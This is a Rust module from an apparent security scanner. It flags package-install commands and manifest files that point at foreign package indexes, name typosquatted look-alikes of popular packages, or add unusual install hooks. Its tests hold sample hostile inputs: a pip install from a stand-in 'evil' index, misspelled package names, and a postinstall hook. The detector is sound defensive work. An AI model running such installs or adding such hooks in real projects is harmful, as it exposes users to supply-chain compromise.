//! What a package has installed: from where, and under names that only look right.

mod popular;

use self::popular::POPULAR;
use crate::code::place::{self, Host};
use crate::rules::{Rule, shape as rule};

/// The shortest name whose neighbours are suspicious: below that everything is a neighbour of something.
const NAME_MIN: usize = 5;

/// What a command that installs packages is suspected of.
pub(crate) fn command(words: &[&str]) -> Option<&'static Rule> {
    let (name, rest) = words.split_first()?;
    let name = name.rsplit('/').next().unwrap_or(name);
    let (("python" | "python3", ["-m", "pip", rest @ ..])
    | ("uv", ["pip", rest @ ..])
    | ("pip" | "pip3" | "npm" | "yarn" | "pnpm" | "bun" | "uv" | "poetry" | "pipx", rest)) = (name, rest)
    else {
        return None;
    };
    let (verb, packages) = rest.split_first()?;
    if !matches!(*verb, "install" | "add" | "i" | "download") {
        return None;
    }
    let mut before = "";
    for word in packages {
        let index = matches!(before, "-i" | "--index-url" | "--extra-index-url" | "--registry")
            || word.contains("index-url=")
            || word.contains("registry=");
        if index || word.starts_with("http") {
            let lower = word.to_lowercase();
            if place::host(&lower)
                .is_some_and(|(_, host)| !matches!(host, Host::Known | Host::Local | Host::Sample))
                && (index || !lower.contains("pytorch.org"))
            {
                return Some(rule::FOREIGN_INDEX);
            }
        } else if !word.starts_with('-') && !before.starts_with('-') && is_look_alike(word) {
            return Some(rule::TYPOSQUAT);
        }
        before = word;
    }
    None
}

/// What the files of package managers are suspected of, with the ranges.
pub(crate) fn manifest(path: &str, text: &str) -> Vec<(&'static Rule, usize, usize)> {
    let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
    let mut out = Vec::new();
    let mut at = 0;
    let requirements = name.strip_suffix(".txt").is_some_and(|stem| stem.starts_with("requirements"));
    for line in text.split_inclusive('\n').take(20_000) {
        let (start, end) = (at, at + line.trim_end().len());
        at += line.len();
        let trimmed = line.trim();
        if requirements {
            if trimmed.contains("index-url")
                && place::host(&trimmed.to_lowercase())
                    .is_some_and(|(_, host)| !matches!(host, Host::Known | Host::Local | Host::Sample))
                && !trimmed.contains("pytorch.org")
            {
                out.push((rule::FOREIGN_INDEX, start, end));
            } else if !trimmed.starts_with(['#', '-']) && is_look_alike(trimmed) {
                out.push((rule::TYPOSQUAT, start, end));
            }
        } else if name == "package.json" {
            let mut quoted = trimmed.split('"');
            let (Some(key), Some(value)) = (quoted.nth(1), quoted.nth(1)) else { continue };
            let version = value.starts_with(['^', '~', '*', '>', '='])
                || value.bytes().next().is_some_and(|byte| byte.is_ascii_digit())
                || value == "latest";
            if matches!(key, "postinstall" | "preinstall" | "install") && !is_usual_hook(value) {
                out.push((rule::INSTALL_HOOK, start, end));
            } else if matches!(key, "prepare" | "prepublish" | "dependencies") && value.starts_with("node ") {
                out.push((rule::PREPARE_HOOK, start, end));
            } else if version && is_look_alike(key) {
                out.push((rule::TYPOSQUAT, start, end));
            }
        } else if name == "setup.py"
            && (trimmed.contains("cmdclass") || trimmed.contains("class") && trimmed.contains("(install)"))
        {
            out.push((rule::INSTALL_HOOK, start, end));
        }
    }
    out
}

/// Commands that builders have run after an installation.
fn is_usual_hook(command: &str) -> bool {
    [
        "husky",
        "patch-package",
        "prisma generate",
        "tsc",
        "npm run build",
        "electron-builder",
        "playwright install",
        "nuxt prepare",
        "wxt prepare",
        "fumadocs",
    ]
    .iter()
    .any(|usual| command.contains(usual))
}

/// Whether a name is one slip away from a popular one: a letter more, less, other, or two exchanged.
fn is_look_alike(requirement: &str) -> bool {
    let requirement = requirement.trim_matches(['"', '\'']);
    let end = requirement
        .char_indices()
        .skip(1)
        .find(|(_, c)| "=<>~![;@ ".contains(*c))
        .map_or(requirement.len(), |(at, _)| at);
    let name = requirement.get(..end).unwrap_or_default().to_ascii_lowercase().replace('_', "-");
    let fits = name.len() >= NAME_MIN
        && name.len() <= 40
        && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'.'));
    fits && !POPULAR.contains(&name.as_str())
        && POPULAR.iter().any(|popular| popular.len() >= NAME_MIN && one_slip(&name, popular))
}

fn one_slip(name: &str, popular: &str) -> bool {
    let (a, b) = (name.as_bytes(), popular.as_bytes());
    let same = a.iter().zip(b).take_while(|(x, y)| x == y).count();
    let (rest_a, rest_b) = (a.get(same..).unwrap_or_default(), b.get(same..).unwrap_or_default());
    let exchanged = || {
        let swapped = rest_a.first() == rest_b.get(1) && rest_a.get(1) == rest_b.first();
        swapped && rest_a.get(2..).is_some() && rest_a.get(2..) == rest_b.get(2..)
    };
    match (rest_a, rest_b) {
        ([_, x @ ..], [_, y @ ..]) if a.len() == b.len() => x == y || exchanged(),
        // A version's digit behind the name is a name of its own: `pypdf2`.
        ([extra, x @ ..], y) if a.len() == b.len() + 1 => x == y && !(x.is_empty() && extra.is_ascii_digit()),
        (x, [_, y @ ..]) if a.len() + 1 == b.len() => x == y,
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn look_alikes_are_told_from_the_real_ones() {
        for name in ["reqeusts", "requestss", "numpyy", "pandsa==1.0", "expresss", "lodahs", "rrequests"] {
            assert!(is_look_alike(name), "{name}");
        }
        for name in ["requests", "numpy>=1", "pypdf2", "preact", "@types/node", "requests-html", "os"] {
            assert!(!is_look_alike(name), "{name}");
        }
    }

    #[test]
    fn commands_and_manifests_are_read() {
        assert_eq!(
            command(&["pip", "install", "--index-url", "https://p.evil.io/simple", "x"]),
            Some(rule::FOREIGN_INDEX)
        );
        assert_eq!(command(&["pip3", "install", "reqeusts"]), Some(rule::TYPOSQUAT));
        assert_eq!(command(&["npm", "install", "-g", "typescript"]), None);
        assert_eq!(
            manifest("a/package.json", "{\n\"postinstall\": \"node x.js\"\n}")[0].0,
            rule::INSTALL_HOOK
        );
        assert_eq!(manifest("requirements.txt", "numpy\npandsa\n")[0].0, rule::TYPOSQUAT);
    }
}
